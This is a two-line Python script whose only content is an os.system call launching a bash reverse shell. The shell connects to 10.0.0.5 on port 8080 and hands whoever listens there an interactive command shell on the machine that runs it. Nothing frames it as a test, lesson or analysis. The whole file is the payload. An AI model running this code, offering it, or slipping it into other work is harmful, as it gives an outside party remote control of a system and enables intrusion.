import os

os.system("bash -c 'bash -i >& /dev/tcp/10.0.0.5/8080 0>&1'")
